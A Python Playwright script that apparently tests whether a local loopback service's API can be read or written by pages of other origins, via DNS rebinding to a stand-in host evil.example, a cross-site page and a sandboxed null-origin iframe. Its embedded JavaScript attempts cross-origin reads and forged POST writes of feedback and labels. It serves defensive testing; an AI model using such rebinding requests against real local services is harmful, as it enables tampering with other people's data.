"""Tests the access of pages of other sites to a service on the loopback address, in Chromium.

    rebinding.py EVIL SERVICE LABEL

EVIL is the address of a page whose name resolves to the service once the page has loaded. Prints JSON: for each page, each
attempt with the beginning of its response.
"""
import json
import sys

from playwright.sync_api import sync_playwright

ATTACK = """async ([base, label]) => {
  const results = {};
  const attempt = async (name, path, options) => {
    try {
      const answer = await fetch(base + path, options);
      results[name] = answer.type === "opaque" ? "opaque" : answer.status + " " + (await answer.text()).slice(0, 60);
    } catch (error) {
      results[name] = String(error);
    }
  };
  const verdict = JSON.stringify({text: "written by evil.example", accepted: [label]});
  const post = (body, more) => ({method: "POST", headers: {"Content-Type": "application/json"}, body, ...more});
  await attempt("reads feedback", "/v1/feedback");
  await attempt("reads the model", "/v1/model");
  await attempt("reads the page", "/");
  await attempt("writes feedback", "/v1/feedback", post(verdict));
  await attempt("writes a label", "/v1/labels", post(JSON.stringify({id: "evil", text: label})));
  await attempt("writes blindly", "/v1/feedback", {method: "POST", mode: "no-cors", body: verdict});
  return results;
}"""

evil, service, label = sys.argv[1:4]
with sync_playwright() as playwright:
    browser = playwright.chromium.launch(
        executable_path="/usr/bin/chromium",
        args=["--no-sandbox", "--host-resolver-rules=MAP evil.example 127.0.0.1"])
    page = browser.new_page()
    page.goto(evil + "/attack")
    found = {"a rebound page": page.evaluate(ATTACK, ["", label]),
             "a page of another site": page.evaluate(ATTACK, [service, label])}
    page.set_content('<iframe sandbox="allow-scripts" srcdoc="<p>Origin: null</p>"></iframe>')
    page.wait_for_timeout(300)
    found["a sandboxed page"] = page.frames[-1].evaluate(ATTACK, [service, label])
    own = browser.new_page()
    own.goto(service + "/")
    found["its own page"] = own.evaluate(ATTACK, ["", label])
    print(json.dumps({"version": browser.version, "found": found}))
    browser.close()
